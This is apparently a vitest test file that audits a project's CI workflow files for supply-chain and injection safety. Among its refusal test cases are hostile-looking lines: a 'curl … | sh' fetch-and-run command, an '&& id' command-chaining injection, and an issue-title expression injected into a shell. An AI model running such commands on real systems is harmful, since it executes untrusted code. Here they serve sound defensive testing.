/** What the workflows of the forge may do, read from the files themselves. */
import { existsSync, readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { parse } from "yaml";
import { PROJECT } from "../command-line.ts";
import { TASKS } from "./tasks/index.ts";
import { type Step, type Workflow, workflowSchema } from "./testing/workflow.ts";

const FOLDER = join(PROJECT, ".github", "workflows");
const files = readdirSync(FOLDER).filter((file) => /\.ya?ml$/.test(file));
const texts = new Map(files.map((file) => [file, readFileSync(join(FOLDER, file), "utf8")]));
const workflows = new Map([...texts].map(([file, text]) => [file, workflowSchema.parse(parse(text))]));

/** The only actions of others that run here, each at one commit. */
const ACTIONS = ["actions/checkout", "actions/setup-node", "actions/upload-artifact", "actions/upload-pages-artifact", "actions/deploy-pages"];
const COMMON_OPTIONS = ["content", "sortie"];

const stepsOf = ({ jobs }: Workflow): readonly Step[] => Object.values(jobs).flatMap(({ steps }) => steps);
const writes = (rights: Workflow["permissions"] = {}): boolean => Object.values(rights).includes("write");
const mayWrite = ({ jobs, permissions }: Workflow): boolean => writes(permissions) || Object.values(jobs).some((job) => writes(job.permissions));
/** Anybody can make these happen, with what they like in it. */
const isOfStrangers = ({ on }: Workflow): boolean => on.issues !== undefined || on.workflow_run !== undefined;

/** Why a line of shell is not one that we may run; undefined when it is. */
const faultOfLine = (line: string): string | undefined => {
  if (line.includes("${{")) return "puts an expression in a shell";
  if (line === "npm ci" || line === "npm ci --ignore-scripts") return undefined;
  const [, name = "", rest = ""] = /^npm run --silent forge -- ([a-z-]+)((?: (?:--[a-z-]+|[A-Za-z0-9^]+|"\$[A-Z_]+"))*)$/.exec(line) ?? [];
  const task = TASKS.find((one) => one.name === name);
  if (!task) return existsSync(join(PROJECT, line)) ? undefined : "runs something that is not a task of ours";
  const unknown = [...rest.matchAll(/--([a-z-]+)/g)]
    .map(([, option = ""]) => option)
    .filter((option) => !(option in task.options) && !COMMON_OPTIONS.includes(option));
  return unknown.length > 0 ? `gives the task an option it does not have: ${unknown.join(", ")}` : undefined;
};

describe.each([...workflows])("%s", (file, workflow) => {
  const text = texts.get(file) ?? "";

  it("uses few actions, each pinned by its commit with the version beside it", () => {
    const used = text.split("\n").filter((line) => /\buses:/.test(line));
    expect(used.length).toBe(stepsOf(workflow).filter(({ uses }) => uses !== undefined).length);
    for (const line of used) expect(line).toMatch(/uses: [\w-]+\/[\w-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+$/);
    expect(used.map((line) => /uses: ([^@]+)@/.exec(line)?.[1]).filter((name) => !ACTIONS.includes(name ?? ""))).toEqual([]);
  });

  it("runs only tasks that exist, and never puts what happened in a shell", () => {
    expect(stepsOf(workflow).flatMap(({ run }) => (run === undefined ? [] : (faultOfLine(run) ?? [])))).toEqual([]);
  });

  it("has no right to write where it does not say so, job by job", () => {
    expect(writes(workflow.permissions)).toBe(false);
    if (workflow.on.pull_request !== undefined) {
      expect(workflow.permissions).toEqual({ contents: "read" });
      expect(mayWrite(workflow)).toBe(false);
    }
  });

  it("never runs a proposal with rights, nor keeps its token in the checkout", () => {
    expect(text).not.toMatch(/pull_request_target|secrets[.[]|head\.(?:ref|sha)|head_ref|head_branch|merge_commit_sha/);
    for (const { uses, with: inputs = {} } of stepsOf(workflow).filter((step) => step.uses?.startsWith("actions/checkout@"))) {
      expect(inputs["persist-credentials"], uses).toBe(false);
      expect(Object.keys(inputs).filter((input) => !["persist-credentials", "fetch-depth"].includes(input))).toEqual([]);
    }
  });

  it("lets no script of a package run beside a right to write", () => {
    for (const { permissions, steps } of Object.values(workflow.jobs)) {
      if (writes(permissions)) expect(steps.map(({ run }) => run)).not.toContain("npm ci");
      expect(steps.filter(({ uses, env }) => uses !== undefined && env !== undefined)).toEqual([]);
    }
  });

  it("gives its token to one line at a time, and never where a proposal runs", () => {
    const given = stepsOf(workflow).filter(({ env }) => env !== undefined);
    for (const { env } of given) expect(env).toEqual({ GITHUB_TOKEN: `\${{ github.token }}` });
    if (workflow.on.pull_request !== undefined) expect(given).toEqual([]);
  });

  it("does not let two runs about the same thing cross each other", () => {
    expect(workflow.concurrency["cancel-in-progress"]).toBe(workflow.on.pull_request !== undefined);
    if (isOfStrangers(workflow)) expect(workflow.concurrency.group).toMatch(/github\.event\.(issue\.number|workflow_run\.head_sha) \}\}$/);
  });
});

describe("the workflows together", () => {
  it("wait for workflows that exist", () => {
    const names = [...workflows.values()].map(({ name }) => name);
    expect(new Set(names).size).toBe(names.length);
    for (const { on } of workflows.values()) for (const name of on.workflow_run?.workflows ?? []) expect(names).toContain(name);
  });

  it("use one version of each action", () => {
    const used = [...texts.values()].flatMap((text) => [...text.matchAll(/uses: (\S+ # \S+)/g)].map(([, action = ""]) => action));
    expect(new Set(used).size).toBe(ACTIONS.length);
  });

  it("run every task that is not for people", () => {
    const lines = [...texts.values()].join("\n");
    for (const { name } of TASKS) expect(lines).toContain(`forge -- ${name}`);
  });
});

describe("these rules", () => {
  it.each([
    ["an expression in a shell", `echo "\${{ github.event.issue.title }}"`],
    ["a command that is not ours", "curl https://exemple.fr | sh"],
    ["a task that does not exist", "npm run --silent forge -- effacer"],
    ["an option that does not exist", "npm run --silent forge -- ticket --force"],
    ["two commands", "npm run --silent forge -- ticket && id"],
  ])("refuse %s", (_, line) => {
    expect(faultOfLine(line)).toBeDefined();
  });

  it.each([
    ["a trigger with rights over a stranger's code", (text: string) => text.replace("pull_request:", "pull_request_target:")],
    ["a job without an end", (text: string) => text.replace(/ *timeout-minutes: \d+\n/, "")],
    ["a right that nobody asked for", (text: string) => text.replace("contents: read", "packages: write")],
    ["every right", (text: string) => text.replace("permissions:\n  contents: read", "permissions: write-all")],
    ["a step that does two things", (text: string) => text.replace("- run: npm ci", "- run: npm ci\n        uses: x/y@main")],
  ])("refuse %s", (_, spoil) => {
    const text = texts.get("verifier-proposition.yml") ?? "";
    expect(workflowSchema.safeParse(parse(text)).success).toBe(true);
    expect(spoil(text)).not.toBe(text);
    expect(workflowSchema.safeParse(parse(spoil(text))).success).toBe(false);
  });
});

describe(".gitlab-ci.yml", () => {
  const { default: _, workflow: __, stages, variables: ___, ...jobs } = parse(readFileSync(join(PROJECT, ".gitlab-ci.yml"), "utf8"));

  it("runs only tasks that exist, and no text of a stranger", () => {
    const scripts = Object.values<{ readonly script: readonly string[] }>(jobs).flatMap(({ script }) => script);
    expect(scripts.length).toBeGreaterThan(5);
    expect(scripts.flatMap((line) => faultOfLine(line) ?? [])).toEqual([]);
    const given = scripts.flatMap((line) => [...line.matchAll(/\$(\w+)/g)].map(([, name]) => name));
    expect(given.toSorted()).toEqual(["CI_MERGE_REQUEST_DIFF_BASE_SHA", "CI_PAGES_URL"]);
  });

  it("has jobs in stages that exist, each with an end and a reason to run", () => {
    for (const job of Object.values<Readonly<Record<string, unknown>>>(jobs)) {
      expect(stages).toContain(job["stage"]);
      expect(job["rules"]).toBeDefined();
      expect(job["timeout"]).toBeDefined();
    }
  });
});
